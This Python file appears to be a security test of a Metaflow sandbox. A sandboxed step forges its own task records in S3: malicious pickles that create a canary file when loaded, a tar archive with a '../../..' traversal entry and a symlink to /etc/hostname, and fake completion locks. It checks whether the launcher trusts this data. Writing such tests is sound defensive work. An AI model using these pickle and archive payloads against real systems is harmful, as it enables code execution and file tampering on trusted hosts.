"""A step in direct mode that uses its credentials to have the launcher run its code."""

import gzip
import hashlib
import io
import json
import os
import pickle
import tarfile

from metaflow import FlowSpec, Parameter, current, sandbox, step


class Bomb:
    """Whoever unpickles it creates the file that it names."""

    def __init__(self, canary):
        self.canary = canary

    def __reduce__(self):
        return open, (self.canary, "w")


class Bucket:
    """The datastore without Metaflow."""

    def __init__(self, flow):
        import boto3

        self.client = boto3.client("s3", endpoint_url=os.environ["METAFLOW_S3_ENDPOINT_URL"])
        root = os.environ["METAFLOW_DATASTORE_SYSROOT_S3"].partition("://")[2]
        self.bucket, _, self.prefix = root.partition("/")
        self.flow = flow

    def put(self, path, content, **metadata):
        facts = {"metaflow-user-attributes": json.dumps(metadata)} if metadata else {}
        key = f"{self.prefix}/{self.flow}/{path}"
        self.client.put_object(Bucket=self.bucket, Key=key, Body=content, Metadata=facts)

    def blob(self, content):
        key = hashlib.sha1(content).hexdigest()
        self.put(f"data/{key[:2]}/{key}", gzip.compress(content), cas_raw=False, cas_version=1)
        return key


def records(flow, run, task):
    """An archive of records about this task, about others, and of links."""
    entry = {"field_name": "made-up", "value": "x", "type": "made-up", "tags": [], "ts_epoch": 1}
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for place in (f"{flow}/{run}/start/1", f"{flow}/{run}/strike/{task}", f"{flow}/{run}", "../../.."):
            member = tarfile.TarInfo(f"{place}/_meta/sysmeta_made-up_1.json")
            content = json.dumps(entry).encode()
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
        link = tarfile.TarInfo(f"{flow}/{run}/strike/{task}/_meta/sysmeta_link_1.json")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/hostname"
        archive.addfile(link)
    return packed.getvalue()


class DirectHostileFlow(FlowSpec):
    canary = Parameter("canary")

    @step
    def start(self):
        self.next(self.strike)

    @sandbox
    @step
    def strike(self):
        bucket = Bucket(current.flow_name)
        own = f"{current.run_id}/strike/{current.task_id}"
        names = ("_transition", "_task_ok", "_success", "_foreach_stack")
        objects = {name: bucket.blob(pickle.dumps(Bomb(f"{self.canary}-{name}"), 4)) for name in names}
        info = {name: {"size": 1, "type": "x", "encoding": "gzip+pickle-v4"} for name in objects}
        document = json.dumps({"attempt": 0, "objects": objects, "info": info}).encode()
        # As Metaflow would, where the launcher looks first, and as done already.
        for name in ("sandbox_data.json", "data.json"):
            bucket.put(f"{own}/0.{name}", document)
        for name in ("sandbox_DONE.lock", "DONE.lock"):
            bucket.put(f"{own}/0.{name}", b"")
        bucket.put(
            f"{own}/0.sandbox_records.tgz", records(current.flow_name, current.run_id, current.task_id)
        )
        os._exit(0)
        self.next(self.end)

    @step
    def end(self):
        pass


if __name__ == "__main__":
    DirectHostileFlow()
